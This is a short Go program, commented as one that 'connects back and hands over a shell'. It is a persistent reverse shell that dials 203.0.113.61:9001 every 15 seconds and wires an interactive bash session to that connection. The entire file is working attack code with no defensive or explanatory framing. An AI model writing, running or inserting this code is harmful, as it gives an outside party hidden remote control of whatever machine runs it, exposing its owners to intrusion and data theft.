// connects back and hands over a shell
package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.61:9001")
		if err == nil {
			cmd := exec.Command("/bin/bash", "-i")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			cmd.Run()
			c.Close()
		}
		time.Sleep(15 * time.Second)
	}
}
